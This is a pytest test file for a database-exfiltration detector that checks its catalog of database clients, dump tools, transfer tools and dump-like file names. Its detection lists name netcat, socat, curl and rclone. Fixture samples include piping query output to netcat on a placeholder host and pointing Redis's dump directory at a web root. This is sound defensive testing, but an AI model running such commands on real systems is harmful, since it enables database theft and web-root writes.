"""The catalog, entry by entry.

Every DB tool is identified from a realistic command line; every name in
detection-landscape.md's "Names worth knowing" is in the catalog or excluded
here with the reason written down; names are unique; dump-like file names are
graded as the landscape describes.
"""

from __future__ import annotations

import ast
import glob
import os

import pytest

from osq_dbwatch import catalog
from osq_dbwatch.cmdline import identify_db_tool, identify_transfer_tool, parse_db_command

SRC = os.path.join(os.path.dirname(os.path.dirname(os.path.abspath(__file__))), "src", "osq_dbwatch")

# One realistic command line per DB tool: (exe path as the kernel reports it, argv).
# A new catalog entry without a line here fails test_every_db_tool_has_a_sample.
SAMPLES: dict[str, tuple[str, list[str]]] = {
    "psql": ("/usr/lib/postgresql/15/bin/psql", ["/usr/lib/postgresql/15/bin/psql", "-h", "db1", "-U", "bob", "sales"]),
    "pgcli": ("/usr/bin/python3.11", ["/usr/bin/python3", "/usr/bin/pgcli", "postgres://bob@db1/sales"]),
    "pg_dump": ("/usr/bin/perl", ["/usr/bin/perl", "/usr/bin/pg_dump", "-Fc", "-f", "/tmp/s.dump", "sales"]),
    "pg_dumpall": ("/usr/lib/postgresql/15/bin/pg_dumpall", ["pg_dumpall", "-f", "/tmp/all.sql"]),
    "pg_basebackup": ("/usr/lib/postgresql/15/bin/pg_basebackup", ["pg_basebackup", "-h", "db1", "-D", "/tmp/base"]),
    "mysql": ("/usr/bin/mariadb", ["mysql", "-h", "db1", "-u", "bob", "shop"]),
    "mariadb": ("/usr/bin/mariadb", ["mariadb", "-h", "db1", "shop"]),
    "mysqlsh": ("/usr/bin/mysqlsh", ["mysqlsh", "--uri", "bob@db1:3306"]),
    "mycli": ("/usr/bin/python3.11", ["/usr/bin/python3", "/usr/bin/mycli", "-h", "db1", "shop"]),
    "mysqldump": ("/usr/bin/mariadb-dump", ["mysqldump", "--single-transaction", "shop"]),
    "mariadb-dump": ("/usr/bin/mariadb-dump", ["mariadb-dump", "-r", "/tmp/shop.sql", "shop"]),
    "mysqlpump": ("/usr/bin/mysqlpump", ["mysqlpump", "--result-file=/tmp/p.sql"]),
    "mydumper": ("/usr/bin/mydumper", ["mydumper", "-B", "shop", "-o", "/tmp/dd"]),
    "mariadb-backup": ("/usr/bin/mariadb-backup", ["mariadb-backup", "--backup", "--target-dir=/tmp/b"]),
    "mariabackup": ("/usr/bin/mariadb-backup", ["mariabackup", "--backup", "--target-dir=/tmp/b"]),
    "xtrabackup": ("/usr/bin/xtrabackup", ["xtrabackup", "--backup", "--target-dir=/tmp/b"]),
    "mongo": ("/usr/bin/mongo", ["mongo", "db1:27017/app"]),
    "mongosh": ("/usr/bin/node", ["mongosh", "mongodb://db1:27017/app"]),
    "mongodump": ("/usr/bin/mongodump", ["mongodump", "--db", "app", "--out", "/tmp/d"]),
    "mongoexport": ("/usr/bin/mongoexport", ["mongoexport", "-d", "app", "-c", "users", "-o", "/tmp/u.json"]),
    "redis-cli": ("/usr/bin/redis-cli", ["redis-cli", "-h", "r1", "-n", "0"]),
    "sqlcmd": ("/opt/mssql-tools18/bin/sqlcmd", ["sqlcmd", "-S", "sql1", "-U", "sa", "-d", "app"]),
    "bcp": ("/opt/mssql-tools18/bin/bcp", ["bcp", "dbo.users", "out", "/tmp/u.dat", "-S", "sql1"]),
    "sqlplus": ("/opt/oracle/instantclient_21_9/sqlplus", ["sqlplus", "-s", "scott@orcl"]),
    "expdp": ("/u01/app/oracle/product/19c/bin/expdp", ["expdp", "system@orcl", "dumpfile=x.dmp"]),
    "exp": ("/u01/app/oracle/product/19c/bin/exp", ["exp", "scott@orcl", "file=/tmp/x.dmp"]),
    "sqlite3": ("/usr/bin/sqlite3", ["sqlite3", "/var/lib/app/app.db"]),
    "litecli": ("/usr/bin/python3.11", ["/usr/bin/python3", "/usr/local/bin/litecli", "/var/lib/app/app.db"]),
    "duckdb": ("/usr/local/bin/duckdb", ["duckdb", "/srv/analytics.duckdb"]),
    "clickhouse-client": ("/usr/bin/clickhouse", ["clickhouse-client", "--host", "ch1"]),
    "clickhouse": ("/usr/bin/clickhouse", ["clickhouse", "client", "--host", "ch1"]),
    "cqlsh": ("/usr/bin/python3.11", ["/usr/bin/python3", "/usr/bin/cqlsh", "cass1", "9042"]),
    "influx": ("/usr/bin/influx", ["influx", "-host", "i1"]),
    "cockroach": ("/usr/local/bin/cockroach", ["cockroach", "sql", "--host=crdb"]),
    "usql": ("/usr/local/bin/usql", ["usql", "pg://bob@db1/sales"]),
    "isql": ("/usr/bin/isql", ["isql", "MyDSN", "bob"]),
}


def test_every_db_tool_has_a_sample() -> None:
    assert sorted(SAMPLES) == sorted(t.name for t in catalog.DB_TOOLS)


@pytest.mark.parametrize("tool", catalog.DB_TOOLS, ids=lambda t: t.name)
def test_db_tool_identified_from_realistic_cmdline(tool: catalog.DbTool) -> None:
    path, argv = SAMPLES[tool.name]
    found = identify_db_tool(path, argv)
    assert found is not None, f"{tool.name} not identified from {argv}"
    assert found[0] == tool
    parsed = parse_db_command(path, argv)
    assert parsed is not None
    assert parsed.engine == tool.engine
    assert parsed.kind == tool.kind
    assert parsed.tool.split(" ")[0] == tool.name


@pytest.mark.parametrize("tool", catalog.DB_TOOLS, ids=lambda t: t.name)
def test_db_tool_identified_from_audit_form(tool: catalog.DbTool) -> None:
    # osquery's audit cmdline: argv joined by spaces; path from the exe
    path, argv = SAMPLES[tool.name]
    parsed = parse_db_command(path, " ".join(argv).split())
    assert parsed is not None and parsed.engine == tool.engine


@pytest.mark.parametrize("tool", catalog.DB_TOOLS, ids=lambda t: t.name)
def test_db_tool_basename_alone_is_not_enough_for_subcommand_tools(tool: catalog.DbTool) -> None:
    found = identify_db_tool("/usr/bin/" + tool.name, [tool.name])
    if tool.subcommands:
        assert found is None  # `clickhouse` alone is the server, `cockroach` alone prints help
    else:
        assert found is not None and found[0] == tool


def test_required_engines_present() -> None:
    engines = {t.engine for t in catalog.DB_TOOLS}
    required = {"postgres", "mysql", "mongo", "redis", "mssql", "oracle", "sqlite", "clickhouse",
                "cassandra", "influx", "cockroach"}
    assert required <= engines
    for engine in required:
        assert any(t.kind == "client" for t in catalog.DB_TOOLS if t.engine == engine), engine
    assert set(catalog.Engine.__args__) == engines | {"generic"} or set(catalog.Engine.__args__) == engines  # type: ignore[attr-defined]


def test_every_engine_has_option_parsing() -> None:
    from osq_dbwatch.cmdline import option_spec

    for tool in catalog.DB_TOOLS:
        option_spec(tool)  # KeyError for an engine the parser does not know


# ---------------------------------------------------------------------------
# detection-landscape.md "Names worth knowing": in the catalog, or excluded with a reason

LANDSCAPE_DB_CLIENTS = ("psql", "mysql", "mariadb", "mysqlsh", "mongo", "mongosh", "redis-cli", "clickhouse-client",
                        "cqlsh", "sqlplus", "sqlcmd", "isql", "sqlite3", "influx", "usql", "pgcli", "mycli", "litecli")
LANDSCAPE_DUMP_TOOLS = ("pg_dump", "pg_dumpall", "pg_basebackup", "mysqldump", "mariadb-dump", "mysqlpump", "mydumper",
                        "mongodump", "mongoexport", "bcp", "expdp", "exp")
LANDSCAPE_TRANSFER = ("curl", "wget", "scp", "sftp", "rsync", "rclone", "nc", "ncat", "netcat", "socat", "ftp",
                      "lftp", "tftp", "smbclient", "aws", "gsutil", "az", "s3cmd")
LANDSCAPE_STAGING = ("openssl", "split", "base64", "tar", "zip", "gzip", "xz", "7z", "zstd")
LANDSCAPE_WEB_PARENTS = ("httpd", "apache2", "nginx", "lighttpd", "caddy", "php-fpm8.2", "php-fpm", "php-cgi",
                         "php-cgi8.2", "lsphp", "lsphp81", "uwsgi", "gunicorn", "uvicorn", "node")
LANDSCAPE_DB_SERVERS = ("postgres", "postmaster", "mysqld", "mariadbd", "mongod", "redis-server", "sqlservr",
                        "clickhouse-server", "influxd")
LANDSCAPE_WEB_ACCOUNTS = ("www-data", "apache", "nginx", "http", "nobody")  # contract section 4
LANDSCAPE_CRON = ("cron", "crond", "anacron")
LANDSCAPE_AGENTS = ("ansible", "ansible-playbook", "salt-minion", "puppet", "chef-client", "airflow", "jenkins",
                    "agent.jar", "nrpe", "nagios", "zabbix_agentd", "telegraf", "datadog-agent", "node_exporter",
                    "postgres_exporter", "mysqld_exporter")
LANDSCAPE_WAL_ARCHIVERS = ("wal-g", "wal-e", "pgbackrest", "barman")

# Names the landscape lists that are deliberately not plain catalog entries, and why.
EXCLUDED = {
    "cockroach sql": "a sub-command: the `cockroach` entry with subcommands=('sql', 'dump')",
    "clickhouse client": "a sub-command: the `clickhouse` entry with subcommands=('client',)",
    "redis-cli --rdb": "an option: cmdline.parse_db_command turns redis-cli into a dump with --rdb",
    "cqlsh COPY TO": "a statement: found by sql_dump_intent in cqlsh -e",
    "clickhouse-client INTO OUTFILE": "a statement: found by sql_dump_intent in --query",
    "java": "every JVM is `java`; app servers are matched by tomcat*/catalina*/jetty instead, "
            "or a rule on every Java process would flag all of them",
    "prometheus exporters": "a family, not a name: the common exporters are listed one by one",
    "jenkins agents": "matched as `jenkins` and `agent.jar` (the agent runs as java -jar agent.jar)",
}


def test_landscape_db_clients() -> None:
    for name in LANDSCAPE_DB_CLIENTS:
        assert catalog.DB_TOOLS_BY_NAME[name].kind == "client", name
    assert catalog.DB_TOOLS_BY_NAME["cockroach"].subcommands == ("sql", "dump")
    assert "client" in catalog.DB_TOOLS_BY_NAME["clickhouse"].subcommands


def test_landscape_dump_tools() -> None:
    for name in LANDSCAPE_DUMP_TOOLS:
        assert catalog.DB_TOOLS_BY_NAME[name].kind == "dump", name
    assert set(LANDSCAPE_DUMP_TOOLS) <= set(catalog.db_tool_names("dump"))
    assert set(LANDSCAPE_DB_CLIENTS) <= set(catalog.db_tool_names("client"))


def test_landscape_transfer_and_staging_tools() -> None:
    for name in LANDSCAPE_TRANSFER:
        assert catalog.TRANSFER_TOOLS_BY_NAME[name].kind == "transfer", name
    for name in LANDSCAPE_STAGING:
        assert catalog.TRANSFER_TOOLS_BY_NAME[name].kind == "staging", name
    assert set(LANDSCAPE_TRANSFER) <= set(catalog.transfer_tool_names("transfer"))
    assert set(LANDSCAPE_STAGING) <= set(catalog.transfer_tool_names("staging"))
    for name in LANDSCAPE_TRANSFER + LANDSCAPE_STAGING:
        found = identify_transfer_tool("/usr/bin/" + name, [name, "/tmp/x.sql"])
        assert found is not None and found[0].name == name


def test_landscape_unusual_parents() -> None:
    for name in LANDSCAPE_WEB_PARENTS:
        assert catalog.is_web_server(name), name
    for name in LANDSCAPE_DB_SERVERS:
        assert catalog.is_db_server(name), name
    for name in ("tomcat9", "catalina.sh", "jetty"):
        assert catalog.is_web_server(name), name


def test_landscape_accounts_and_service_context() -> None:
    assert set(LANDSCAPE_WEB_ACCOUNTS) <= set(catalog.WEB_ACCOUNTS)
    for name in LANDSCAPE_CRON:
        assert catalog.is_cron(name), name
    for name in LANDSCAPE_AGENTS + LANDSCAPE_WAL_ARCHIVERS:
        assert catalog.is_automation_agent(name), name
    assert set(LANDSCAPE_WAL_ARCHIVERS) <= set(catalog.WAL_ARCHIVERS)


def test_exclusions_are_real_exclusions() -> None:
    # an excluded name must not have crept into the lists it was excluded from
    for name in EXCLUDED:
        assert name not in catalog.DB_TOOLS_BY_NAME
        assert name not in catalog.TRANSFER_TOOLS_BY_NAME
        assert not catalog.is_web_server(name)
        assert EXCLUDED[name]


@pytest.mark.parametrize(
    ("name", "expected"),
    [
        # the kernel's comm is cut to 15 characters: names longer than that must still match
        ("clickhouse-serv", True),  # clickhouse-server
        ("postgres_export", True),  # postgres_exporter
        ("barman-cloud-wa", True),  # barman-cloud-wal-archive
        ("clickhouse-clie", False),  # a client is not a server
        ("mysqld", True),
        ("mysqld_safe", False),
        ("postgres-x", False),
    ],
)
def test_truncated_comm_names(name: str, expected: bool) -> None:
    assert (catalog.is_db_server(name) or catalog.is_automation_agent(name)) is expected


def test_web_and_db_server_matching_is_exact_or_declared_prefix() -> None:
    assert catalog.is_web_server("php-fpm7.4")
    assert not catalog.is_web_server("nginx-debug-helper")
    assert not catalog.is_web_server("")
    assert not catalog.is_db_server("postgresql-common")
    assert not catalog.is_db_server("")
    assert catalog.is_shell("-bash") and catalog.is_shell("dash") and not catalog.is_shell("bashful")


# ---------------------------------------------------------------------------
# Uniqueness


def _duplicates(names: list[str]) -> set[str]:
    return {n for n in names if names.count(n) > 1}


def test_no_duplicate_names() -> None:
    lists = {
        "DB_TOOLS": [t.name for t in catalog.DB_TOOLS],
        "TRANSFER_TOOLS": [t.name for t in catalog.TRANSFER_TOOLS],
        "WEB_SERVERS": list(catalog.WEB_SERVERS),
        "DB_SERVERS": list(catalog.DB_SERVERS),
        "WEB_ACCOUNTS": list(catalog.WEB_ACCOUNTS),
        "CRON_DAEMONS": list(catalog.CRON_DAEMONS),
        "AUTOMATION_AGENTS": list(catalog.AUTOMATION_AGENTS),
        "WAL_ARCHIVERS": list(catalog.WAL_ARCHIVERS),
        "DUMP_SUFFIXES": list(catalog.DUMP_SUFFIXES_STRONG + catalog.DUMP_SUFFIXES_WEAK),
        "COMPRESSION_SUFFIXES": list(catalog.COMPRESSION_SUFFIXES),
        "DEFAULT_DUMP_ROOTS": list(catalog.DEFAULT_DUMP_ROOTS),
    }
    for label, names in lists.items():
        assert not _duplicates(names), f"{label}: {_duplicates(names)}"


def test_no_name_in_two_roles() -> None:
    db_tools = set(catalog.DB_TOOLS_BY_NAME)
    transfer = set(catalog.TRANSFER_TOOLS_BY_NAME)
    assert not db_tools & transfer
    assert not set(catalog.AUTOMATION_AGENTS) & set(catalog.WAL_ARCHIVERS)
    assert not set(catalog.CRON_DAEMONS) & set(catalog.AUTOMATION_AGENTS)
    for name in db_tools | transfer:
        assert not catalog.is_web_server(name), name
        assert not catalog.is_db_server(name), name
    for name in catalog.DB_SERVERS:
        assert not catalog.is_web_server(name), name
    assert not set(catalog.DUMP_SUFFIXES_STRONG) & set(catalog.DUMP_SUFFIXES_WEAK)
    assert not set(catalog.DUMP_SUFFIXES_STRONG + catalog.DUMP_SUFFIXES_WEAK) & set(catalog.COMPRESSION_SUFFIXES)


def test_lookups_built_from_lists() -> None:
    assert len(catalog.DB_TOOLS_BY_NAME) == len(catalog.DB_TOOLS)
    assert len(catalog.TRANSFER_TOOLS_BY_NAME) == len(catalog.TRANSFER_TOOLS)
    assert set(catalog.db_tool_names()) == set(catalog.DB_TOOLS_BY_NAME)
    assert set(catalog.transfer_tool_names()) == set(catalog.TRANSFER_TOOLS_BY_NAME)


def test_tools_with_extras() -> None:
    table = catalog.db_tools_with_extras((("vsql", "generic"),), (("pgcopydb", "postgres"),))
    assert table["vsql"] == catalog.DbTool("vsql", "generic", "client")
    assert table["pgcopydb"].kind == "dump"
    assert table["psql"] is catalog.DB_TOOLS_BY_NAME["psql"]
    assert "vsql" not in catalog.DB_TOOLS_BY_NAME  # the shared table is not modified
    transfer = catalog.transfer_tools_with_extras(("croc", "curl"))
    assert transfer["croc"].kind == "transfer"
    assert transfer["curl"] is catalog.TRANSFER_TOOLS_BY_NAME["curl"]


def test_default_dump_roots_match_the_issue() -> None:
    assert catalog.DEFAULT_DUMP_ROOTS == ("/tmp", "/var/tmp", "/dev/shm", "/home", "/root", "/var/www", "/srv")


# ---------------------------------------------------------------------------
# Dump-like file names


@pytest.mark.parametrize(
    ("path", "strength"),
    [
        ("/tmp/x.sql", "strong"),
        ("/tmp/X.SQL", "strong"),
        ("/tmp/users.CSV", "strong"),
        ("/tmp/t.tsv", "strong"),
        ("/tmp/db.dump", "strong"),
        ("/tmp/db.bak", "strong"),
        ("/tmp/c.bson", "strong"),
        ("/tmp/dump.rdb", "strong"),
        ("/tmp/x.sql.gz", "strong"),
        ("/tmp/x.sql.GZ", "strong"),
        ("/tmp/x.sql.bz2", "strong"),
        ("/tmp/x.csv.xz", "strong"),
        ("/tmp/x.csv.zst", "strong"),
        ("/tmp/x.sql.zip", "strong"),
        ("/tmp/x.sql.7z", "strong"),
        ("/tmp/x.sql.tar.gz", "strong"),
        ("/tmp/x.sql.tgz", "strong"),
        ("/tmp/x.sql.gz.gpg", "strong"),
        ("/tmp/x.sql.gz.enc", "strong"),
        ("/tmp/x.bson.gz", "strong"),
        ("/var/www/html/.x.sql", "strong"),  # hidden files too
        ("/tmp/users.json", "weak"),
        ("/tmp/users.jsonl", "weak"),
        ("/tmp/users.json.gz", "weak"),
        ("/tmp/app.db", "weak"),
        ("/tmp/app.sqlite3", "weak"),
        ("/tmp/app.sqlite.xz", "weak"),
        ("/tmp/notes.txt", "weak"),
        ("/tmp/backup.tgz", ""),  # compressed, but nothing dump-like inside the name
        ("/tmp/backup.tar.gz", ""),
        ("/tmp/x.gz", ""),
        ("/tmp/.gz", ""),
        ("/tmp/script.py", ""),
        ("/tmp/sql", ""),
        ("/tmp/x.mysql", ""),
        ("/tmp/x.sql.part", ""),  # an unfinished download is not graded by its inner suffix
        ("/tmp/x.sql/", ""),  # a directory path
        ("/tmp/dir.sql/inner", ""),
        ("", ""),
        ("x.sql", "strong"),
    ],
)
def test_dump_suffix_strength(path: str, strength: str) -> None:
    assert catalog.dump_suffix_strength(path) == strength


def test_dump_suffix_strength_long_compression_chain_terminates() -> None:
    assert catalog.dump_suffix_strength("/tmp/x.sql" + ".gz" * 5000) == "strong"
    assert catalog.dump_suffix_strength(".gz" * 5000) == ""


# ---------------------------------------------------------------------------
# Tool knowledge lives here: engine records, option specs, dump statements, history files


def test_every_engine_has_one_record() -> None:
    engines = list(catalog.Engine.__args__)  # type: ignore[attr-defined]
    assert [e.engine for e in catalog.ENGINES] == engines
    for info in catalog.ENGINES:
        for source in info.history:
            assert source.engine == info.engine, source
    assert catalog.engine_info("no-such-engine") is catalog.ENGINES_BY_NAME["generic"]


def test_every_tool_spec_is_its_own_or_its_engines() -> None:
    for tool in catalog.DB_TOOLS:
        spec = catalog.option_spec(tool)
        assert spec is (tool.options or catalog.ENGINES_BY_NAME[tool.engine].options)
        # a positional role list is understood by the parser
        assert set(spec.positional) | set(spec.dump_positional) <= set(catalog.PositionalRole.__args__), tool  # type: ignore[attr-defined]
        assert not set(spec.secret) & set(spec.flags), tool  # an option is a secret's or a flag, never both


def test_history_sources_unique_and_named_by_a_catalog_client() -> None:
    paths = [s.path for s in catalog.HISTORY_SOURCES]
    assert not _duplicates(paths)
    for source in catalog.HISTORY_SOURCES:
        tool = catalog.DB_TOOLS_BY_NAME[source.tool]
        assert tool.engine == source.engine, source
    # the engine's first source names its client for files outside the list
    assert catalog.history_tool("postgres") == "psql" and catalog.history_tool("mongo") == "mongosh"
    assert catalog.history_tool("duckdb") == "duckdb" and catalog.history_tool("mssql") == ""
    assert catalog.history_tool("no-such-engine") == ""


# One text per dump statement: a statement added without a sample fails here.
DUMP_SAMPLES: dict[str, tuple[str, str]] = {
    "INTO OUTFILE": ("select * from t into outfile '/tmp/a.csv'", "/tmp/a.csv"),
    "INTO DUMPFILE": ("select pw from t into dumpfile '/tmp/a.bin'", "/tmp/a.bin"),
    "\\o program": ("\\o |gzip > /tmp/x.gz", ""),
    "\\g program": ("select 1 \\g |nc e.example 4444", ""),
    "\\o": ("\\o /tmp/o.txt", "/tmp/o.txt"),
    "\\g": ("select 1 \\g (format=csv) /tmp/g.csv", "/tmp/g.csv"),
    "tee": ("tee /tmp/tee.log", "/tmp/tee.log"),
    "pager": ("pager cat > /tmp/p.txt", "/tmp/p.txt"),
    ".output": (".once /tmp/once.csv", "/tmp/once.csv"),
    "EXPORT INTO": ("EXPORT INTO CSV 'nodelocal://1/x' FROM TABLE t", "nodelocal://1/x"),
    ":out": (":out /tmp/out.txt", "/tmp/out.txt"),
    "lo_export": ("select lo_export(42, '/tmp/lo.bin')", "/tmp/lo.bin"),
    ".dump": (".dump", ""),
    "writeFile": ("fs.writeFileSync('/tmp/m.json', x)", "/tmp/m.json"),
    "CONFIG SET dir": ("CONFIG SET dir /var/www/html", "/var/www/html"),
    "SAVE": ("BGSAVE", ""),
}


def test_every_dump_statement_has_a_sample_that_finds_it() -> None:
    from osq_dbwatch.cmdline import sql_dump_intent

    assert sorted(DUMP_SAMPLES) == sorted(s.intent for s in catalog.DUMP_STATEMENTS)
    for statement in catalog.DUMP_STATEMENTS:
        text, path = DUMP_SAMPLES[statement.intent]
        found = sql_dump_intent(text)
        assert found is not None and (found.intent, found.path) == (statement.intent, path), statement.intent
        assert statement.engines and set(statement.engines) <= {e.engine for e in catalog.ENGINES}
        assert catalog.dump_statement_engines(statement.intent) == statement.engines
    assert "duckdb" in catalog.dump_statement_engines("COPY TO")
    assert "duckdb" in catalog.dump_statement_engines(".output")


def test_transfer_tool_data_the_correlator_reads() -> None:
    # the values engine.py spelled before they moved here (WEB_TRANSFER_TOOLS, _COMPRESSORS)
    assert catalog.WEB_TRANSFER_TOOLS == {"curl", "wget", "aws", "gsutil", "az", "azcopy", "gcloud", "rclone", "s3cmd",
                                          "mc"}
    assert catalog.COMPRESSOR_SUFFIXES == {"gzip": ".gz", "pigz": ".gz", "bzip2": ".bz2", "xz": ".xz", "zstd": ".zst"}
    assert catalog.STREAM_TRANSFER_TOOLS == {"nc", "ncat", "netcat", "socat"}
    assert catalog.BUNDLED_OUTPUT_TOOLS == {"tar"} and catalog.PREFIX_OUTPUT_TOOLS == {"split"}
    for name in catalog.COMPRESSOR_SUFFIXES:
        assert catalog.TRANSFER_TOOLS_BY_NAME[name].kind == "staging"
        assert catalog.COMPRESSOR_SUFFIXES[name] in catalog.COMPRESSION_SUFFIXES


def test_password_tools_refer_to_catalog_tools() -> None:
    for tool in catalog.PASSWORD_TOOLS:
        assert tool.name not in catalog.DB_TOOLS_BY_NAME and tool.name not in catalog.TRANSFER_TOOLS_BY_NAME
        assert not tool.like or tool.like in catalog.DB_TOOLS_BY_NAME or tool.like in catalog.TRANSFER_TOOLS_BY_NAME
    for _, family in catalog.PASSWORD_FAMILY_PREFIXES:
        assert family in catalog.DB_TOOLS_BY_NAME


def _string_constants(path: str) -> set[str]:
    with open(path) as handle:
        tree = ast.parse(handle.read())
    return {n.value for n in ast.walk(tree) if isinstance(n, ast.Constant) and isinstance(n.value, str)}


def test_cmdline_has_no_per_engine_or_per_tool_ladder() -> None:
    """cmdline.py parses with catalog records only: it names no DB, transfer, password or wrapper program, no engine."""
    names = ({t.name for t in catalog.DB_TOOLS} | {t.name for t in catalog.TRANSFER_TOOLS}
             | {t.name for t in catalog.PASSWORD_TOOLS} | {w.name for w in catalog.WRAPPERS}
             | {e.engine for e in catalog.ENGINES})
    spelled = _string_constants(os.path.join(SRC, "cmdline.py")) & names
    assert spelled == set(), spelled


def test_correlator_spells_no_tool_or_history_file() -> None:
    names = {t.name for t in catalog.DB_TOOLS} | {t.name for t in catalog.TRANSFER_TOOLS}
    names |= {s.path for s in catalog.HISTORY_SOURCES} | {s.path.rsplit("/", 1)[-1] for s in catalog.HISTORY_SOURCES}
    spelled: dict[str, set[str]] = {}
    for path in sorted(glob.glob(os.path.join(SRC, "correlate", "*.py"))):
        found = _string_constants(path) & names
        if found:
            spelled[os.path.basename(path)] = found
    assert spelled == {}
